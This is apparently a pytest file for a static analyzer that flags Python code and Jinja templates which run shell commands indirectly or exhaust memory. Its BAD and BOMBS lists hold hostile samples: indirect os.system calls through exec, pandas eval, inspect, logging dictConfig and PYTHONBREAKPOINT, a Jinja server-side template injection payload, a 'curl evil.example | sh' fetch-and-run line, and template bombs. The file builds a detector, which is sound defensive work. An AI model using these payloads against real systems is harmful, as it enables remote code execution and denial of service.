"""Python source: what it gives to others as text to run, and what the names of that text stand for."""

# ruff: noqa: E501 - attacks stand as they are written
from __future__ import annotations

import pytest

from assay.core.finding import Severity
from assay.formats.texts.python_code import judge_python
from assay.formats.texts.templates import read_template

CURL = "'curl https://evil.example/i.sh | sh'"
BAD = [
    "import os\nexec('os.system(\"x\")')",
    "import os, cProfile\ncProfile.run('os.system(\"x\")')",
    "import subprocess as s\neval('s.run(\"x\", shell=True)')",
    "import pandas as pd\npd.eval('__import__(\"os\").system(\"x\")', engine='python')",
    "import pandas as pd\npd.DataFrame({'a': [1]}).query('@pd.io.common.os.system(\"x\")')",
    f"import inspect, os\ndict(inspect.getmembers(os))['system']({CURL})",
    f"import inspect, os\nd = dict(inspect.getmembers(os))\nd['system']({CURL})",
    f"import os\nos.system.__self__.system({CURL})",
    f"import os\ntry:\n    raise ValueError(os)\nexcept ValueError as e:\n    e.args[0].system({CURL})",
    "import logging.config\nlogging.config.dictConfig({'handlers': {'a': {'()': 'os.system', 'command': 'x'}}})",
    "import logging.config\nlogging.config.dictConfig({'filters': {'a': {'()': 'ext://subprocess.run'}}})",
    "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('x')",
    "import os\nos.environ.update(PYTHONSTARTUP='/tmp/x.py')",
    "import jinja2\njinja2.Template('{{cycler.__init__.__globals__.os.popen(\"x\").read()}}').render()",
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.load_extension('./x.so')",
]
GOOD = [
    "import os\nexec('x = os.getcwd()')",
    "import pandas as pd\npd.eval('a + b')",
    "import pandas as pd\nx = 3\npd.DataFrame({'a': [1]}).query('a > @x and b == 2')",
    "import inspect, os\nfor n, v in inspect.getmembers(os):\n    print(n)",
    "try:\n    raise ValueError('x')\nexcept ValueError as e:\n    print(e.args[0].upper())",
    "import logging.config\nlogging.config.dictConfig({'formatters': {'a': {'()': 'uvicorn.logging.DefaultFormatter'}}})",
    "import os\nos.environ['PYTHONBREAKPOINT'] = '0'\nos.environ['PYTHONBREAKPOINT'] = 'ipdb.set_trace'",
    "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
    "import jinja2\njinja2.Template('Hello {{ name }}').render(name='x')",
    "import sqlite3\nc = sqlite3.connect('a.db')\nc.load_extension('mod_spatialite')",
    "from multiprocessing.connection import wait\nwait([])",
    "import ctypes\ndef f(b):\n    ctypes.windll.shell32.SHGetFolderPathW(None, 28, None, 0, b)",
    "class P:\n    def _pager(self, content):\n        return __import__('pydoc').pager(content)",
]


def gravest(source: str) -> Severity:
    """The gravest severity of what a source says."""
    notes = judge_python(source + "\n").notes
    return max((n.severity for n in notes), key=lambda s: s.rank, default=Severity.INFO)


@pytest.mark.parametrize("source", BAD)
def test_what_is_run_by_way_of_another_is_told(source: str) -> None:
    assert gravest(source).rank >= Severity.HIGH.rank


@pytest.mark.parametrize("source", GOOD)
def test_ordinary_texts_for_others_raise_no_alarm(source: str) -> None:
    assert gravest(source).rank < Severity.MEDIUM.rank


def test_a_function_with_arguments_put_in_before_is_no_name_put_together() -> None:
    source = """import functools, subprocess
def f(cmd, runner=None):
    runner = functools.partial(subprocess.check_call, shell=True)
    runner(cmd)
"""
    assert "put together" not in " ".join(n.message for n in judge_python(source).notes)
    assert gravest(source).rank <= Severity.MEDIUM.rank


BOMBS = [
    "{{ 'x' * 10**10 }}",
    "{{ 'x' * 9999999999 }}",
    "{{ '%9999999999d'|format(1) }}",
    "{{ '{:>9999999999}'.format(1) }}",
    "{% macro m() %}a{{ m() }}{% endmacro %}{{ m() }}",
    "{% macro m(x) %}{% if x %}b{% endif %}{{ m(x) }}{{ m(x) }}{% endmacro %}",
]
HARMLESS = [
    "{{ '-' * 80 }}{{ 2 ** 10 }}{{ '%05d'|format(1) }}",
    "{% macro m(x) %}{% if x.items %}{{ m(x.items) }}{% endif %}{% endmacro %}{{ m(t) }}",
    "{% macro m(x) %}{% for y in x %}{{ m(y) }}{% endfor %}{% endmacro %}",
    "{% macro m() %}a{% endmacro %}{{ m() }}{{ m() }}",
    "{{ raise_exception('id 123456789 is unknown') }}",
]


@pytest.mark.parametrize("template", BOMBS)
def test_a_template_that_no_memory_holds_is_told(template: str) -> None:
    assert "template:bomb" in {n.key for n in read_template(template).notes}


@pytest.mark.parametrize("template", HARMLESS)
def test_ordinary_repetitions_and_recursions_are_no_bombs(template: str) -> None:
    assert "template:bomb" not in {n.key for n in read_template(template).notes}
